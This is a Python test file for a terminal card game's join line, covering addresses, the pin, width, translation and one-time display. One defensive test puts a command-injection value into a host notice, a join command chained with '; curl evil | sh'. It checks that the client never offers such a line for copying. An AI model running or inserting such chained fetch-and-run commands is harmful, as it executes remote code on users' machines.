"""The join line reads the same everywhere and is never cut (issue 12, point 13; issue 46,
point 2): the host prints it and sends it from one function, with this machine's addresses
and the fingerprint's short pin, and the lobby shows it on a line of its own, whole, which
`c` copies."""

from __future__ import annotations

from pathlib import Path

from client.i18n import Translator
from client.link import ChatReceived
from client.link_session import LinkSession
from client.model import ClientModel
from client.render import chat_lines, join_lines
from host.addresses import lan_addresses, reachable
from host.run import HostOptions, ServedHost, describe, join_command, join_line, join_notice
from protocol.address import host_port
from protocol.host_connection import HostConnection

FINGERPRINT = "WSBO-67FC-QF2C-UEVD-SUST-CHUQ-NJCL-5456-VXT5-ZR27-F5F4-PPME-T2IA"
PIN = "WSBO-67FC-QF2C-UEVD"


def test_the_join_line_names_real_addresses_and_reads_the_same_on_stdout() -> None:
    served = ServedHost(7077, FINGERPRINT, Path("/tmp"), ("192.168.1.20", "10.0.0.7"))
    line = join_line(served)
    assert line == f"Friends join with: unonet join 192.168.1.20:7077 --pin {PIN} (or at 10.0.0.7)"
    assert line in describe(HostOptions(), served)
    assert "YOUR-ADDRESS" not in line and "HOST:" not in "\n".join(describe(HostOptions(), served))
    plain = ServedHost(7077, None, Path("/tmp"), ("fd00::2",))
    assert join_line(plain) == "Friends join with: unonet join [fd00::2]:7077 --no-tls"


def test_the_addresses_are_this_machines_and_reachable() -> None:
    found = lan_addresses(None)
    assert found == ["127.0.0.1"] or all(reachable(a) for a in found)
    assert lan_addresses("192.0.2.9") == ["192.0.2.9"]  # --bind names the one to use
    assert not reachable("127.0.0.1") and not reachable("fe80::1") and not reachable("0.0.0.0")
    assert host_port("::1", 1) == "[::1]:1"


def test_the_chat_breaks_a_fingerprint_over_lines_instead_of_cutting_it() -> None:
    """A join line that came as plain text (a host that knows no join_with code) is chat."""
    model = ClientModel(Translator("en"), name="Ana")
    served = ServedHost(7077, FINGERPRINT, Path("/tmp"), ("192.168.1.20",))
    model.apply(ChatReceived("host", join_line(served)))
    for width in (24, 38, 80):
        text = "".join("".join(fragment[1] for fragment in line)
                       for line in chat_lines(model, width, 20))
        assert PIN.replace("-", "") in text.replace("-", "").replace(" ", "")


def test_the_longest_ipv4_join_line_fits_sixty_columns() -> None:
    """Its own line is never wrapped: the command fits the smallest screen for any IPv4
    address and port."""
    served = ServedHost(65535, FINGERPRINT, Path("/tmp"), ("255.255.255.255",))
    command, _ = join_command(served)
    assert command == f"unonet join 255.255.255.255:65535 --pin {PIN}"
    assert len(command) <= 60


def test_the_chat_says_it_in_the_language_of_the_hosts_player() -> None:
    """Found in tmux: `unonet host --lang pt` greeted its own player with "Friends join with:
    ..." in English. The chat's line is in the player's language, and so is the terminal's
    (issue 46: every command's words follow --lang)."""
    served = ServedHost(7077, None, Path("/tmp"), ("192.168.1.20", "10.0.0.7"))
    assert join_line(served, "pt") == ("Os amigos entram com: unonet join 192.168.1.20:7077 "
                                       "--no-tls (ou em 10.0.0.7)")
    assert join_line(served, "it").startswith("Gli amici entrano con: unonet join ")
    assert join_line(served, "pt") in describe(HostOptions(notice_lang="pt"), served)


def model_told(lang: str, notice: dict[str, object]) -> ClientModel:
    """A client in `lang` that got a host notice over the wire."""
    host = HostConnection(0.0)
    session = LinkSession("Ana", table=0)
    host.receive_data(session.connect(), 0.0)
    session.receive(host.welcome())
    model = ClientModel(Translator(lang), name="Ana")
    for update in session.receive(host.send(notice)).updates:
        model.apply(update)
    return model


def said_in_chat(lang: str, notice: dict[str, object]) -> str:
    """The chat line a client in `lang` shows for a host notice that came over the wire."""
    return model_told(lang, notice).chat[-1].text


def lobby_join_lines(lang: str, notice: dict[str, object]) -> list[str]:
    """The lobby's lines about how friends join, in `lang`, at 60 columns."""
    return ["".join(text for _, text, *_ in line)
            for line in join_lines(model_told(lang, notice), 60)]


def test_each_guest_reads_how_friends_join_in_their_own_language() -> None:
    """Found in tmux: a Portuguese guest at an English host read "Friends join with: ...".
    The notice carries its code, the command and the other addresses (SPEC.md [UNO-8-27]);
    each client says it in its player's words, and one that knows no code shows `text`."""
    served = ServedHost(7077, FINGERPRINT, Path("/tmp"), ("192.168.1.20", "10.0.0.7"))
    notice = join_notice(served, "en")
    assert notice["text"] == join_line(served) and notice["notice"] == "join_with"
    command = f"unonet join 192.168.1.20:7077 --pin {PIN}"
    assert lobby_join_lines("pt", notice) == [
        "Os amigos entram com (c copia; ou em 10.0.0.7):", command]
    assert lobby_join_lines("it", notice) == [
        "Gli amici entrano con (c lo copia; o a 10.0.0.7):", command]
    assert lobby_join_lines("en", join_notice(served, "it")) == [
        "Friends join with (c copies it; or at 10.0.0.7):", command]
    alone = join_notice(ServedHost(7077, None, Path("/tmp"), ("192.168.1.20",)), "en")
    assert "addresses" not in alone
    assert lobby_join_lines("pt", alone) == ["Os amigos entram com (c copia):",
                                             "unonet join 192.168.1.20:7077 --no-tls"]
    assert said_in_chat("pt", {**notice, "notice": "newer_code"}) == notice["text"]


def test_a_command_that_is_not_a_join_is_never_offered_to_copy() -> None:
    """The line `c` copies goes into a shell: a host's command that is anything but
    `unonet join ADDRESS:PORT` and a pin is said in the chat as text, and nothing is copied."""
    served = ServedHost(7077, FINGERPRINT, Path("/tmp"), ("192.168.1.20",))
    notice = {**join_notice(served, "en"),
              "command": f"unonet join 192.168.1.20:7077 --pin {PIN}; curl evil | sh"}
    model = model_told("en", notice)
    assert model.join_with is None and "curl evil" in model.chat[-1].text


def test_a_machine_with_many_addresses_still_sends_a_chat_line() -> None:
    """The notice is checked against the catalogue when sent: a text or a list of addresses
    past 512 characters would be our bug, raised at whoever sat down."""
    many = tuple(f"2001:db8::{index:x}" for index in range(200))
    served = ServedHost(7077, FINGERPRINT, Path("/tmp"), many)
    notice = join_notice(served, "pt")
    host = HostConnection(0.0)
    host.receive_data(LinkSession("Ana", table=0).connect(), 0.0)
    host.welcome()
    host.send(notice)  # raises LocalProtocolError past the field's bounds
    assert len(str(notice["text"])) <= 512 and "2001:db8::1," in str(notice["addresses"])


def test_the_join_line_is_shown_once_though_each_seating_brings_it() -> None:
    """Found in tmux: a host resumed from its journal showed its own player no join line
    (its seat came back by token, and only join_table brought the notice). The host now
    greets every seating; a client that has the line already does not show it again."""
    served = ServedHost(7077, FINGERPRINT, Path("/tmp"), ("192.168.1.20",))
    notice = join_notice(served, "en")
    model = ClientModel(Translator("en"), name="Ana")
    update = ChatReceived("host", str(notice["text"]), None, True, "join_with",
                          command=str(notice["command"]))
    for _ in range(3):
        model.apply(update)
    assert list(model.chat) == []  # not in the chat: a line of its own
    assert model.join_with is not None and model.join_with.command == notice["command"]
